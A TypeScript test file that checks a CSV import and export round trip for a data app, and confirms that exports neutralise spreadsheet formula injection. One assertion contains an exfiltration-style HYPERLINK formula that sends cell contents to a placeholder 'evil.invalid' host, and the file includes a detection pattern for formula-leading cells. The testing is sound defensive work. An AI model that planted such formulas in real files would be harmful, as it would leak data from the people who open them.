import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import type { Dataset } from '../../src/domain/schema';
import { DEFAULT_FILTERS } from '../../src/domain/view-filters';
import { observationsCsv } from '../../src/features/export/export-csv';
import { buildExportView } from '../../src/features/export/export-view';
import { viewOf } from './view-of';
import { ImportEngine } from '../../src/features/import/import-engine';
import { parseCsv } from '../../src/lib/csv-read';
import { toCsv } from '../../src/lib/csv-write';

// Import → observations CSV export → import: the second import must give the first one's data back,
// formula-like text included, while the exported file itself holds no live formula.

const FIXTURE = 'tests/fixtures/formula-cells.csv';

/**
 * Opens a CSV with the dialog's first guess; `declare` states the app's −3…+3 scale as a user would
 * for a file whose scores alone do not tell it (1, 2, 3 also fit Likert scales). This app's own
 * export needs no declaring: its scale is recognised.
 */
async function importCsv(text: string, name: string, declare = false): Promise<Dataset> {
  const engine = new ImportEngine();
  const outcome = await engine.read(new File([text], name));
  if (outcome.kind !== 'csv') throw new Error(`expected a CSV, got ${outcome.kind}`);
  const guess = outcome.preview.guess;
  const mapping = declare
    ? { ...guess, scale: 'stance' as const, scoreMin: -3, scoreMax: 3, higherMeans: 'hawkish' as const }
    : guess;
  const result = engine.map(mapping, '2025-09-01');
  if (!result.dataset) throw new Error(result.fatal ?? 'no dataset');
  expect(result.problems).toEqual([]);
  return result.dataset;
}

/** What an observation means, without the ids the importer derives from row numbers. */
function meaning(d: Dataset) {
  const actor = new Map(d.actors.map((a) => [a.id, a.name]));
  const theme = new Map(d.themes.map((t) => [t.id, t.label]));
  const source = new Map(d.sources.map((s) => [s.id, [s.title, s.url]]));
  return d.observations
    .map((o) => ({
      date: o.date,
      datePrecision: o.datePrecision,
      actor: actor.get(o.actor),
      theme: theme.get(o.theme),
      kind: o.kind,
      score: o.score,
      originalScore: o.originalScore,
      speaker: o.speaker,
      quote: o.quote,
      summary: o.summary,
      source: o.sourceId === null ? null : source.get(o.sourceId),
    }))
    .sort((a, b) => JSON.stringify(a).localeCompare(JSON.stringify(b)));
}

const exportAll = (d: Dataset) =>
  observationsCsv(buildExportView(d, DEFAULT_FILTERS, viewOf(d, DEFAULT_FILTERS)));

/** Cells a spreadsheet would run: text starting with = + - @ tab or CR that is not a plain number. */
function liveFormulaCells(csv: string): string[] {
  return parseCsv(csv.replace(/^\uFEFF/, ''))
    .rows.flat()
    .filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(c));
}

describe('import → export → import', () => {
  it('keeps the formula-like cells of a real-shaped file exactly, and the export is inert', async () => {
    const source = readFileSync(FIXTURE, 'utf8');
    expect(liveFormulaCells(source).length, 'the fixture holds live formulas').toBeGreaterThanOrEqual(5);
    const first = await importCsv(source, 'formula-cells.csv');
    expect(first.observations).toHaveLength(6);
    const speakers = first.observations.map((o) => o.speaker);
    expect(speakers).toContain('=HYPERLINK("http://evil.invalid/?leak="&A1;"Click for the source")');
    expect(speakers).toContain('@analyst');
    // An apostrophe a spreadsheet-safe export wrote is taken off on import.
    expect(first.themes.map((t) => t.label)).toContain('=quoted already');
    expect(first.observations.map((o) => o.quote)).toContain('-already guarded text');

    const exported = exportAll(first);
    expect(liveFormulaCells(exported)).toEqual([]);
    const second = await importCsv(exported, 'formula-cells.csv');
    expect(meaning(second)).toEqual(meaning(first));
    // And again: the export of the re-import is the same file, byte for byte, but for the row-number ids
    // (same file name, so the rationale that names it is the same).
    const dropIds = (csv: string) => csv.replace(/\brow-\d+\b/g, 'row-N');
    expect(dropIds(exportAll(second))).toEqual(dropIds(exported));
  });

  it('is lossless for any text, formula-like or not (property)', async () => {
    const text = fc.oneof(
      fc.string({
        unit: fc.constantFrom(
          "'",
          '=',
          '+',
          '-',
          '@',
          '\t',
          '1',
          '.',
          'a',
          'Z',
          ',',
          ';',
          '"',
          ' ',
          '\n',
          'é',
        ),
        minLength: 1,
        maxLength: 10,
      }),
      fc.string({ unit: 'grapheme', minLength: 1, maxLength: 20 }),
    );
    const row = fc.record({
      day: fc.integer({ min: 1, max: 28 }),
      actor: fc.constantFrom('Trump', '=Trump', '+Senate', '@Kremlin', "'-Kyiv"),
      score: fc.integer({ min: -30, max: 30 }).map((n) => n / 10),
      speaker: text,
      quote: text,
      theme: text,
    });
    await fc.assert(
      fc.asyncProperty(fc.array(row, { minLength: 1, maxLength: 8 }), async (rows) => {
        const file = toCsv([
          ['date', 'actor', 'score', 'theme', 'speaker', 'quote'],
          ...rows.map((r) => [
            `2025-03-${String(r.day).padStart(2, '0')}`,
            r.actor,
            String(r.score),
            r.theme,
            r.speaker,
            r.quote,
          ]),
        ]);
        const first = await importCsv(file, 'generated.csv', true);
        const exported = exportAll(first);
        expect(liveFormulaCells(exported)).toEqual([]);
        expect(meaning(await importCsv(exported, 'generated-export.csv'))).toEqual(meaning(first));
      }),
      { numRuns: 60 },
    );
  });
});
